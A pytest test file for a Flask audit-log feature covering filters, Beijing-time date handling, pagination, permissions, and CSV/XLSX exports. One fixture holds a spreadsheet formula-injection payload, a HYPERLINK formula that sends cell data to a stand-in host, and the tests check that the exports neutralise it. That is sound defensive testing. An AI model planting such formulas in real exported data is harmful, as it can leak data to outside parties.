"""The data-use log as an auditor's tool over HTTP: filters (who, case, purpose, days in Beijing time),
pages, and CSV / XLSX exports of everything the filter selects, with spreadsheet formulas neutralised."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timezone

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook

from engine.audit.access_log import record_access
from engine.audit.purposes import MEDIATION_CONTACT, unmask_reason
from engine.cases.models import Case
from engine.db import Database
from engine.demo.driver import Driver
from engine.people.actor import Actor
from tests.web.conftest import LoginAs

DUDAO, WANGGE, TIAOJIE = Actor("dudao", "supervisor"), Actor("wangge", "grid_worker", None, "XF-01"), \
    Actor("tiaojie", "mediator")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


def _log(db: Database, actor: Actor, case: Case | None, reason: str, at: datetime, kind: str = "unmask") -> None:
    with db.transaction() as s:
        record_access(s, actor, kind=kind, case=s.get(Case, case.id) if case else None,
                      what="reporter_name,reporter_phone" if kind == "unmask" else "bundle", reason=reason, at=at)


def utc(*args: int) -> datetime:
    return datetime(*args, tzinfo=timezone.utc)


@pytest.fixture
def logged(db: Database, driver: Driver) -> dict[str, Case]:
    first, second = driver.report("楼道灯坏了", "公共设施"), driver.report("井盖缺失", "安全隐患")
    _log(db, DUDAO, first, unmask_reason("revisit", "反映人说已修好，照片对不上，电话核实"), utc(2026, 3, 1, 9))
    # 17:30 UTC on 1 March is 01:30 on 2 March in Beijing: it belongs to the 2nd.
    _log(db, WANGGE, second, unmask_reason("contact", "上门处理前需要约好时间联系反映人"), utc(2026, 3, 1, 17, 30))
    _log(db, TIAOJIE, None, MEDIATION_CONTACT, utc(2026, 3, 2, 3))
    _log(db, Actor("jiandu", "auditor"), first, FORMULA, utc(2026, 3, 3, 2), kind="export")
    return {"first": first, "second": second}


@pytest.fixture
def auditor(login_as: LoginAs) -> FlaskClient:
    return login_as("jiandu")


def total(client: FlaskClient, query: str) -> str:
    page = client.get(f"/audit/access-log?{query}")
    assert page.status_code == 200, page.get_data(as_text=True)[:500]
    text = page.get_data(as_text=True)
    return text.split("共 ", 1)[1].split(" 条记录", 1)[0] if "共 " in text else "0"


@pytest.mark.parametrize(("query", "count"), [
    ("", "4"),
    ("who=dudao", "1"),
    ("who=李网格员", "1"),  # by the name people know, not only the username
    ("purpose=revisit", "1"),
    ("purpose=mediation", "1"),
    ("kind=export", "1"),
    ("date_from=2026-03-02&date_to=2026-03-02", "2"),  # Beijing days
    ("date_from=2026-03-02", "3"),
    ("date_to=2026-03-01", "1"),
    ("who=dudao&purpose=contact", "0"),
])
def test_the_filters(logged: dict[str, Case], auditor: FlaskClient, query: str, count: str) -> None:
    assert total(auditor, query) == count


def test_a_case_filter_takes_the_tracking_code(logged: dict[str, Case], auditor: FlaskClient) -> None:
    assert total(auditor, f"code={logged['first'].tracking_code.lower()}") == "2"


@pytest.mark.parametrize(("query", "field", "message"), [
    ("date_from=2026-03-05&date_to=2026-03-01", "date_to", "结束日期不能早于开始日期"),
    ("date_from=2026-02-30", "date_from", ""),
    ("purpose=curiosity", "purpose", ""),
    ("page=0", "page", "页码应在"),
])
def test_bad_filters_are_a_400_with_the_message_next_to_the_field(auditor: FlaskClient, query: str, field: str,
                                                                  message: str) -> None:
    for url in ("/audit/access-log", "/audit/access-log.csv", "/audit/access-log.xlsx"):
        response = auditor.get(f"{url}?{query}")
        assert response.status_code == 400 and "text/html" in response.content_type
        page = response.get_data(as_text=True)
        assert message in page and (f'id="{field}-error"' in page or field == "page")


def test_pages_of_fifty_newest_first(db: Database, driver: Driver, auditor: FlaskClient) -> None:
    case = driver.report("楼道灯坏了", "公共设施")
    for minute in range(55):
        _log(db, DUDAO, case, unmask_reason("revisit", f"第 {minute:02d} 次回访核实办理结果"), utc(2026, 3, 1, 1, minute))
    first = auditor.get("/audit/access-log").get_data(as_text=True)
    assert "第 1 / 2 页" in first and "第 54 次回访" in first and "第 04 次回访" not in first
    second = auditor.get("/audit/access-log?page=2").get_data(as_text=True)
    assert "第 04 次回访" in second and "第 54 次回访" not in second and 'rel="prev"' in second


def test_the_csv_export_holds_every_matching_entry_with_formulas_neutralised(logged: dict[str, Case],
                                                                             auditor: FlaskClient) -> None:
    response = auditor.get("/audit/access-log.csv?date_from=2026-03-01")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert 'filename=access-log-20260301-now.csv' in response.headers["Content-Disposition"]
    body = response.get_data()
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0][:2] == ["时间（北京时间）", "人员"] and len(rows) == 5
    by_user = {r[2]: r for r in rows[1:]}
    assert by_user["wangge"][0] == "2026-03-02 01:30:00" and by_user["wangge"][1] == "李网格员"
    assert by_user["wangge"][6] == "反映人姓名、反映人电话"
    assert by_user["jiandu"][7] == "'" + FORMULA  # text, never a live formula
    assert by_user["jiandu"][5] == logged["first"].tracking_code


def test_the_xlsx_export_keeps_reasons_as_text(logged: dict[str, Case], auditor: FlaskClient) -> None:
    response = auditor.get("/audit/access-log.xlsx?kind=export")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    assert sheet.title == "数据使用记录" and sheet.max_row == 2
    cell = sheet.cell(2, 8)
    assert cell.value == FORMULA and cell.data_type == "s" and cell.quotePrefix


@pytest.mark.parametrize("username", ["wangge", "chengguan", "yishi", "tiaojie", "admin"])
def test_only_the_audit_workspace_reads_or_exports_the_log(logged: dict[str, Case], login_as: LoginAs,
                                                           username: str) -> None:
    client = login_as(username)
    for url in ("/audit/access-log", "/audit/access-log.csv", "/audit/access-log.xlsx"):
        assert client.get(url).status_code == 403
